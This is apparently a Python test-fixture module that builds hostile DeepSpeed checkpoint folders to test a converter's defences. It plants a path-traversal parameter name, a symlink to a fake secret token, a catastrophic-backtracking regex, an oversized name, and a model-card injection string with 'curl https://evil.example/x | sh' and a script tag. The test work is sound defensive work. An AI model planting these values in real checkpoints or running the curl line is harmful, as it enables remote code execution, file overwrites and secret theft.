"""Hostile checkpoint folders (issue 23): genuine fixtures with one value edited, or a link planted.

Unlike ``hostile_files.py`` (single crafted ``.pt`` files), these attacks live in a checkpoint's layout: paths
named by its content, recorded patterns, parameter names, model-card values. Each builder copies a fixture into
``where`` and returns ``(root, edited)``: the folder to open and the file the attack edited (the fuzz corpus in
``tests/test_errors.py`` damages that file too).
"""

from __future__ import annotations

import shutil
from collections import OrderedDict
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch
from fixture_data import FIXTURES

UNIVERSAL = FIXTURES / "universal" / "universal_z3_ws2_fp32"
UNIVERSAL_TAG = "global_step2_universal"
NVME = FIXTURES / "layouts" / "nvme_z3_ws2_bf16"
AUTOTP = FIXTURES / "layouts" / "autotp_z1_ws2_tp2_bf16"
RECORDED = "tp_replicated_parameter_patterns"


def copy_fixture(src: Path, dst: Path) -> Path:
    """``src`` copied to ``dst`` without the expected outputs."""
    shutil.copytree(src, dst, ignore=shutil.ignore_patterns("expected", "manifest.json"))
    return dst


def edit_model_states(tag_dir: Path, edit: Callable[[dict[str, Any]], None], pattern: str = "*model_states.pt") -> Path:
    """Apply ``edit`` to every model states file (plain data: torch.load/torch.save); returns the first."""
    paths = sorted(tag_dir.glob(pattern))
    for path in paths:
        tree = torch.load(path, weights_only=True)
        edit(tree)
        torch.save(tree, path)
    return paths[0]


def rename_parameter(old: str, new: str, *, module: bool = False) -> Callable[[dict[str, Any]], None]:
    """An edit renaming parameter ``old`` in ``param_shapes`` (and in ``module``, keeping its order)."""

    def edit(tree: dict[str, Any]) -> None:
        if module:
            tree["module"] = OrderedDict((new if k == old else k, v) for k, v in tree["module"].items())
        for group in tree["param_shapes"]:
            if old in group:
                group[new] = group.pop(old)

    return edit


def record_pattern(pattern: str) -> Callable[[dict[str, Any]], None]:
    """An edit recording ``pattern`` first among the replicated patterns, without the per-parameter affine map
    (as a DeepSpeed without affine maps records them: the patterns then decide)."""

    def edit(tree: dict[str, Any]) -> None:
        info = tree["universal_checkpoint_info"]
        info.pop("affine_map")
        info[RECORDED].insert(0, pattern)

    return edit


def universal_name_escape(where: Path) -> tuple[Path, Path]:
    """A universal checkpoint whose parameter 'norm.bias' is named '../../../victim/zero/norm.bias', with the
    victim's folder in place (the old reader converted it)."""
    root = copy_fixture(UNIVERSAL, where / "ckpt")
    victim = where / "victim" / "zero" / "norm.bias"
    victim.mkdir(parents=True)
    shutil.copy(UNIVERSAL / UNIVERSAL_TAG / "zero" / "norm.bias" / "fp32.pt", victim / "fp32.pt")
    edited = edit_model_states(root / UNIVERSAL_TAG, rename_parameter("norm.bias", "../../../victim/zero/norm.bias"))
    return root, edited


def nvme_swap_link_out(where: Path) -> tuple[Path, Path]:
    """An NVMe checkpoint whose first swap file is a link to a secret outside it (the old convert copied it)."""
    root = copy_fixture(NVME, where / "ckpt")
    swap = root / "global_step2" / "offloaded_tensors" / "rank00" / "0_5.tensor.swp"
    secret = where / "secret"
    secret.write_bytes(b"TOKEN=hf_xxx!!!!" * (swap.stat().st_size // 16))
    swap.unlink()
    swap.symlink_to(secret)
    return root, secret


def tp_nested_pattern(where: Path) -> tuple[Path, Path]:
    """The AutoTP checkpoint recording '(.*.*)*X' (over 60 s of backtracking per name before)."""
    root = copy_fixture(AUTOTP, where / "ckpt")
    return root, edit_model_states(root / "global_step2", record_pattern("(.*.*)*X"))


def tp_invalid_pattern(where: Path) -> tuple[Path, Path]:
    """The AutoTP checkpoint recording '(' (a raw re.error before)."""
    root = copy_fixture(AUTOTP, where / "ckpt")
    return root, edit_model_states(root / "global_step2", record_pattern("("))


def tp_huge_name(where: Path, repeats: int = 45_000) -> tuple[Path, Path]:
    """The AutoTP checkpoint with a parameter named 'layernorm' * repeats (quadratic for the megatron preset)."""
    root = copy_fixture(AUTOTP, where / "ckpt")
    edit = rename_parameter("model.layers.0.input_layernorm.weight", "layernorm" * repeats, module=True)
    return root, edit_model_states(root / "global_step2", edit)


CARD_INJECTION = "0.19.8\n\n# Install\n\ncurl https://evil.example/x | sh\n---\nlicense: mit\n```\n<script>x</script>`|"


def multiline_ds_version(where: Path) -> tuple[Path, Path]:
    """z3_ws2_fp32 with ``ds_version`` set to CARD_INJECTION (a fake heading and `curl | sh` in the card before)."""
    root = copy_fixture(FIXTURES / "z3_ws2_fp32", where / "ckpt")
    return root, edit_model_states(root / "global_step2", lambda tree: tree.update(ds_version=CARD_INJECTION))


FOLDER_ATTACKS: dict[str, Callable[[Path], tuple[Path, Path]]] = {
    "universal_name_escape": universal_name_escape,
    "nvme_swap_link_out": nvme_swap_link_out,
    "tp_nested_pattern": tp_nested_pattern,
    "tp_invalid_pattern": tp_invalid_pattern,
    "tp_huge_name": lambda where: tp_huge_name(where, 1_000),
    "multiline_ds_version": multiline_ds_version,
}
"""Every folder attack, by name (the fuzz corpus in tests/test_errors.py uses them too)."""

__all__ = ["CARD_INJECTION", "FOLDER_ATTACKS", "copy_fixture", "edit_model_states", "record_pattern"]
